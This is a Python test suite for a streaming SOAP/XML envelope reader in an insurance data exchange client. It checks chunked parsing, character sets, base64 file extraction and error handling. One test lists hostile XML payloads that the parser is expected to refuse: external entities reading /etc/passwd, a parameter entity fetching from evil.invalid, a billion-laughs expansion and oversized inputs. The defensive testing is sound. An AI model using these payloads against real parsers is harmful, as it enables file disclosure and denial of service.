from __future__ import annotations

import base64
import time
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bipro_sync.bipro.soap import envelope
from bipro_sync.bipro.soap.envelope import EnvelopeReader
from bipro_sync.errors import InsurerError, ProtocolError, RefusedXmlError, StorageError
from bipro_sync.model.shipment import SpooledPart

from ..fixtures import message
from ..recorders import Sink


DATA = b"<Datei><Daten>%s</Daten></Datei>"


def read(data, *, charset="", size=1 << 16, sink=None):
    reader = EnvelopeReader(sink or Sink(), charset)
    for start in range(0, len(data), size):
        reader.feed(data[start : start + size])
    return reader.finish()


def shape(element):
    return (
        element.namespace,
        element.name,
        element.attributes,
        element.text,
        element.reference,
        [shape(each) for each in element.children],
    )


@settings(deadline=None)
@given(st.integers(1, 400))
def test_the_pieces_that_an_envelope_comes_in_do_not_matter(size):
    whole, cut = Sink(), Sink()
    assert shape(read(message("40"), sink=whole)) == shape(read(message("40"), size=size, sink=cut))
    assert whole.parts == cut.parts


def test_an_envelope_cut_at_any_byte_before_its_root_ends_is_an_error():
    data = message("40").rstrip()
    for length in range(len(data)):
        for size in (7, 1 << 16):
            with pytest.raises(ProtocolError):
                read(data[:length], size=size)
    assert read(data).name == "Envelope"


@pytest.mark.parametrize(
    "attack",
    [
        b"<!DOCTYPE a><a/>",
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.invalid/x">%p;]><a/>',
        b'<!DOCTYPE l [<!ENTITY a0 "ha">'
        + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
        + b"]><l>&a9;</l>",
        b"<a>" * 100_000,
        b"<a " + b" ".join(b'a%d="x"' % n for n in range(200_000)) + b"/>",
        b'<a b="' + b"x" * (9 << 20) + b'"/>',
        b"<a><!--" + b"x" * (9 << 20) + b"--></a>",
        b"<a>" + b"x" * (2 << 20) + b"</a>",
    ],
    ids=["doctype", "system", "entity", "parameter", "laughs", "levels", "attributes", "value", "comment", "leaf"],
)
def test_an_attack_is_refused_quickly(attack):
    begun = time.process_time()
    with pytest.raises(RefusedXmlError):
        read(attack)
    assert time.process_time() - begun < 1


@pytest.mark.parametrize("before", [b"", b"<Datei><Daten/></Datei>"], ids=["whole", "streamed"])
@pytest.mark.parametrize("size", [1, 50])
@pytest.mark.parametrize(
    ("piece", "honest", "too_many"),
    [
        (b"<b></b>", 20, 28),
        (b"<b/>", 20, 28),
        (b"<b a=''/>", 13, 19),
        (b"<b>" + b"x" * 90 + b"</b>", 15, 24),
        (b"<b>" + b"x" * 99 + b"</b>", 1, 0),
        (b"<b>" + b"x" * 105 + b"</b>", 0, 1),
    ],
    ids=["tags", "empty elements", "attributes", "text", "one text that fits", "one text that does not"],
)
def test_more_tags_attributes_and_text_than_any_honest_answer_has_are_refused(
    monkeypatch, *, before, size, piece, honest, too_many
):
    monkeypatch.setattr(envelope, "MAX_TREE", 10_500)
    monkeypatch.setattr(envelope, "MAX_RUN", 104)
    read(b"<a>" + before + piece * honest + b"</a>", size=size)
    if too_many:
        with pytest.raises(RefusedXmlError, match="more XML"):
            read(b"<a>" + before + piece * too_many + b"</a>", size=size)


@pytest.mark.parametrize("text", [b"&unknown;", b"<b></a>", b"\xff", b"<b>\x01</b>"])
def test_what_is_not_well_formed_is_an_error_that_repeats_nothing_of_it(text):
    with pytest.raises(ProtocolError) as caught:
        read(b"<a><geheim/>" + text + b"</a>", size=1)
    assert "geheim" not in str(caught.value)
    assert "unknown" not in str(caught.value)


def test_something_after_the_root_is_an_error():
    with pytest.raises(ProtocolError):
        read(b"<a/><b/>")


@pytest.mark.parametrize("empty", [b"", b"   "])
def test_an_empty_envelope_is_an_error(empty):
    with pytest.raises(ProtocolError, match="empty"):
        read(empty)


@pytest.mark.parametrize(
    ("data", "charset"),
    [
        ("<a>ü</a>".encode(), ""),
        ("<a>ü</a>".encode("latin-1"), "iso-8859-1"),
        ('<?xml version="1.0" encoding="iso-8859-1"?><a>ü</a>'.encode("latin-1"), "utf-8"),
        ('<?xml version="1.0"?><a>ü</a>'.encode("cp1252"), "windows-1252"),
        ('<?xml version="1.0" encoding="windows-1252"?><a>ü</a>'.encode("cp1252"), ""),
        ("<?xml version='1.0' encoding='ISO-8859-15'?><a>ü</a>".encode("iso-8859-15"), ""),
        ("<a>ü</a>".encode("iso-8859-15"), "ISO-8859-15"),
        ("\ufeff<a>ü</a>".encode(), "iso-8859-1"),
        ("<a>ü</a>".encode("utf-16"), ""),
    ],
)
def test_the_declaration_decides_about_the_charset_then_mime_then_utf_8(data, charset):
    assert read(data, charset=charset).text == "ü"


@pytest.mark.parametrize("charset", ["klingon", "utf-8\0", "utf\x01", "\u00fctf-8", "x" * 10_000])
def test_an_unknown_charset_is_an_error(charset):
    with pytest.raises(ProtocolError, match="character set"):
        read(b"<a/>", charset=charset)


def test_base64_goes_to_the_sink_and_never_into_the_tree():
    sink = Sink()
    root = read(DATA % b"\r\n UVVJ\r\n Qw== ", sink=sink)
    assert sink.parts == [b"QUIC"]
    assert root.children[0].text == ""
    assert sink.bytes_of(root.children[0].inline) == b"QUIC"


def test_base64_in_a_cdata_section_is_base64():
    sink = Sink()
    read(DATA % b"<![CDATA[UVVJQw==]]>", sink=sink)
    assert sink.parts == [b"QUIC"]


def test_an_empty_data_element_is_an_empty_file():
    sink = Sink()
    read(b"<Datei><Daten/></Datei>", sink=sink)
    assert sink.parts == [b""]


@pytest.mark.parametrize(
    "content",
    [
        b"UVVJ!",
        b"UVVJQ",
        "ü".encode(),
        b"<x/>",
        b'<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="cid:a"/>UVVJ',
        b'UVVJ<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="cid:a"/>',
        b'<i:Include xmlns:i="http://www.w3.org/2004/08/xop/include" href="cid:a"/>' * 2,
        b'<i:Include xmlns:i="urn:not-xop" href="cid:a"/>',
    ],
)
def test_data_that_is_neither_base64_nor_one_include_is_an_error(content):
    with pytest.raises(ProtocolError):
        read(DATA % content)


def test_what_the_sink_raises_leaves_the_parser_unchanged():
    sink = Sink()
    sink.broken = True
    with pytest.raises(StorageError, match="the disk is full"):
        read(message("40"), sink=sink)


@pytest.mark.parametrize(
    "text",
    [
        b"UVVJQw==",
        b"\r\n\t UV VJ\nQw\r\n==\r\n",
        b"UVVJ&#13;\nQw==&#xD;&#x0A;&#9;&#x20;&#010;",
        b"<!-- a comment -->UVVJ<?and an instruction?>Qw==",
        b"UVVJ<![CDATA[Qw]]>==",
        b"<![CDATA[ UVVJQw== ]]>",
    ],
    ids=["bare", "white space", "references", "comments", "partly CDATA", "CDATA"],
)
def test_base64_is_read_however_it_is_written_and_cut(text):
    data = DATA % text
    for size in (*range(1, 12), len(data)):
        for cut in range(len(data) if size == len(data) else 1):
            sink = Sink()
            reader = EnvelopeReader(sink, "")
            reader.feed(data[:cut])
            for start in range(cut, len(data), size):
                reader.feed(data[start : start + size])
            reader.finish()
            assert sink.parts == [b"QUIC"]


@pytest.mark.parametrize("text", [b"UVVJ&#65;", b"UVVJ&amp;", b"UVVJ&#13", b"&#13;&", b"UVVJ&#000000000000000000013;"])
def test_any_other_reference_in_base64_is_an_error(text):
    for size in (1, 1000):
        with pytest.raises(ProtocolError):
            read(DATA % text, size=size)


def test_base64_in_utf_16_and_under_a_strange_tag_is_a_file_too():
    for data in (
        '<?xml version="1.0" encoding="utf-16"?><Datei><Daten>UVVJQw==</Daten></Datei>'.encode("utf-16"),
        b'<Datei><Daten a=">">UVVJQw==</Daten></Datei>',
        b'<Datei><x:Daten\nxmlns:x="urn:x"  >UVVJQw==</x:Daten ></Datei>',
        b'<Datei><x.y-z:Daten xmlns:x.y-z="urn:x">UVVJQw==</x.y-z:Daten></Datei>',
        '<Datei><ü:Daten xmlns:ü="urn:x">UVVJQw==</ü:Daten></Datei>'.encode(),
    ):
        for size in (1, 7, 1000):
            sink = Sink()
            read(data, size=size, sink=sink)
            assert sink.parts == [b"QUIC"]


@pytest.mark.parametrize(
    "data",
    [
        b"<a><![CDATA[<Datei><Daten>]]></a>",
        b"<a><!-- <Datei><Daten> --></a>",
        b"<a b='&lt;Datei>&lt;Daten>'>x</a>",
        b"<a><Daten>no file</Daten></a>",
        b"<a><Datei><EnthaeltDaten>no file</EnthaeltDaten></Datei></a>",
    ],
)
def test_what_only_looks_like_a_file_is_none(data):
    sink = Sink()
    read(data, sink=sink)
    read(data, size=1, sink=sink)
    assert sink.parts == []


def test_several_files_arrive_in_order_and_what_stands_between_them_is_read():
    data = b"<a>" + b"".join(
        b"<Datei><Name>n%d</Name><Daten>%s</Daten><Ende/></Datei>" % (n, base64.b64encode(b"%d" % n * n))
        for n in range(30)
    )
    for size in (1, 100, 10_000):
        sink = Sink()
        root = read(data + b"</a>", size=size, sink=sink)
        assert sink.parts == [b"%d" % n * n for n in range(30)]
        assert [each.children[0].text for each in root.children] == [f"n{n}" for n in range(30)]
        assert [sink.bytes_of(each.children[1].inline) for each in root.children] == sink.parts


def test_a_large_file_goes_past_the_parser_in_bounded_pieces():
    class Counting(Sink):
        largest = total = 0

        def part(self):
            return self

        def write(self, data):
            self.largest, self.total = max(self.largest, len(data)), self.total + len(data)

        def finish(self):
            return SpooledPart("0", self.total, "", b"")

    sink = Counting()
    reader = EnvelopeReader(sink, "")
    reader.feed(b"<Datei><Daten>")
    for _ in range(1000):
        reader.feed(b"QUJD" * 16384)
    reader.feed(b"</Daten></Datei>")
    assert reader.finish().children[0].inline.size == sink.total == 1000 * 49152
    assert sink.largest <= 1 << 17


def test_all_that_an_element_says_is_given_as_fields_and_the_places_are_named():
    root = read(
        b'<r a="1" xmlns:n="urn:n" n:b="2"><x>eins</x><y><z c="3">zwei</z><z/></y><x> drei </x><n:x>vier</n:x>'
        b'<Datei><Daten d="4">UVVJQw==</Daten><Name>f</Name></Datei></r>'
    )
    assert [(field.path, field.value, field.namespace) for field in root.record().fields] == [
        ("@a", "1", ""),
        ("@b", "2", "urn:n"),
        ("x", "eins", ""),
        ("y/z", "zwei", ""),
        ("y/z/@c", "3", ""),
        ("y/z[2]", "", ""),
        ("x[2]", " drei ", ""),
        ("x[3]", "vier", "urn:n"),
        ("Datei/Daten/@d", "4", ""),
        ("Datei/Name", "f", ""),
    ]


@pytest.mark.parametrize("more", [b"", b"<Datei><Daten>UVVJQw==</Daten></Datei>"])
def test_white_space_is_kept_where_it_is_all_that_a_leaf_holds(more):
    root = read(b"<r>\n <x>  </x>\n <y>\n  <z>\n</z>\n </y>\n" + more + b"\n</r>")
    assert [(field.path, field.value) for field in root.record().fields] == [("x", "  "), ("y/z", "\n")]


def test_only_children_of_the_norm_are_left_out_of_the_fields():
    root = read(b'<r xmlns:b="http://www.bipro.net/namespace/x"><b:T><k>1</k></b:T><T>2</T><u><b:T>3</b:T></u></r>')
    assert [(field.path, field.value) for field in root.record("T").fields] == [("T", "2"), ("u/T", "3")]


@settings(deadline=None)
@given(st.binary(max_size=200) | st.text(alphabet="<>/ab&;!-[]? =\"'", max_size=200).map(str.encode))
def test_only_our_errors_leave_the_parser(data):
    with suppress(InsurerError):
        read(data)
